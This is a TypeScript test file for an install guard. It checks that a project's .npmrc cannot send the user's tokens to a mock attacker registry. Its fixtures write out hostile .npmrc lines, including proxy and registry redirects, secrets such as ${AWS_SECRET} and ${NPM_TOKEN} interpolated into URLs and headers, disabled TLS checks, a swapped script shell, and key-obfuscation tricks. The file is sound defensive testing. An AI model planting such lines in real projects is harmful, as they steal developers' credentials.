/** A `.npmrc` that came with a clone or a pull request: it must not send what is the user's to somebody else. */
import { safeInstall } from "../support/cli.ts";
import { temporaryFolder } from "../support/folder.ts";
import { writeProject } from "../support/project.ts";
import { type Registry, startRegistry } from "../support/registry.ts";
import { createInstance, policyFor, publishSigned } from "../support/signed.ts";
import type { Instance } from "../support/sigstore.ts";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

let instance: Instance;
let good: Registry;
let evil: Registry;

beforeAll(async () => {
  instance = await createInstance();
  [good, evil] = await Promise.all([
    startRegistry(),
    startRegistry({ intercept: (_, answer) => (answer.writeHead(404).end(), true) }),
  ]);
  await publishSigned(good, instance, { name: "widget", version: "1.0.0" });
});
afterAll(() => Promise.all([good.close(), evil.close()]));

const SECRETS = { NPM_TOKEN: "npm-secret", AWS_SECRET: "aws-secret", npm_config_fetch_retries: "0" };

async function run(words: readonly string[], npmrc: readonly string[], policy: Readonly<Record<string, unknown>> = {}) {
  const [home, project] = [temporaryFolder(), join(temporaryFolder(), "project")];
  writeProject(project, good, {
    locked: [{ name: "widget", version: "1.0.0" }],
    policy: policyFor(["widget"], policy),
    files: { "trust/root.json": instance.trustedRoot, ".npmrc": `${npmrc.join("\n")}\n` },
  });
  writeFileSync(
    join(home, ".npmrc"),
    `registry=${good.url}\n${good.url.replace("http:", "")}:_authToken=user-secret\n`,
  );
  const before = evil.requests.length;
  const outcome = await safeInstall(words, { cwd: project, home, env: SECRETS });
  return { ...outcome, toEvil: evil.requests.slice(before) };
}

const host = (registry: Registry) => registry.url.replace("http:", "");

describe.each([["check"], ["npm", "ci"]])("%s %s", (...words) => {
  it.each([
    ["proxy", () => `proxy=${evil.origin}`],
    ["https-proxy", () => `https-proxy=${evil.origin}`],
    ["strict-ssl", () => "strict-ssl=false"],
    ["cafile", () => "cafile=./ca.pem"],
    ["proxy", () => `p\${NOSUCH?}roxy=${evil.origin}`],
    ["strict-ssl", () => "strict-${NOSUCH?}ssl=false"],
    ["user-agent", () => "user-a${NOSUCH?}gent=${AWS_SECRET}"],
    ["userconfig", () => "userc${NOSUCH?}onfig=${PWD}/x"],
    ["script-shell", () => "script-${NOSUCH?}shell=./evil"],
    ["registry", () => `registry=${evil.origin}/\${AWS_SECRET}/`],
    ["@acme:registry", () => `@acme:registry=${evil.origin}/\${AWS_SECRET}/`],
    ["_authToken", () => `registry=${evil.url}\n${host(evil)}:_authToken=\${NPM_TOKEN}`],
    ["_authToken", () => `registry=${evil.url}\n${host(evil)}\${AWS_SECRET}/:_authToken=x`],
  ])("refuses %s, and nothing is asked of anybody", async (key, line) => {
    const { exit, stderr, toEvil } = await run(words.filter(Boolean), [line()]);
    expect({ exit, stderr, toEvil }).toMatchObject({
      exit: 64,
      stderr: expect.stringContaining("PROJECT_NPMRC"),
      toEvil: [],
    });
    expect(stderr.replaceAll("${NOSUCH?}", "")).toContain(key);
    expect(stderr).not.toMatch(/npm-secret|aws-secret/);
  });
});

describe("what a project's .npmrc is for", () => {
  it("still works: a registry, a token of its own, and the user's variable for a registry that the user knows", async () => {
    const lines = [`registry=${good.url}`, `${host(good)}:_authToken=\${NPM_TOKEN}`, "fund=false", "omit=optional"];
    expect((await run(["check"], lines)).exit).toBe(0);
  });

  it("a variable for a registry that the policy names", async () => {
    const lines = [`registry=${good.url}`, `${host(evil)}:_authToken=\${NPM_TOKEN}`];
    expect((await run(["check"], lines)).exit).toBe(64);
    expect((await run(["check"], lines, { registries: { npm: [evil.origin] } })).exit).toBe(0);
  });
});
